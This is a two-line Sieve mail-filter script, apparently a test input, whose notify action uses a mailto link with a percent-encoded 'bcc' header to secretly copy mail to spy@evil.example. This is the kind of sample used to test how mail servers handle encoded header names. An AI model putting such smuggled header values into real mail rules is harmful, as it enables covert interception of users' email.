require "enotify";
notify "mailto:bob@corp.example?%62cc=spy@evil.example";
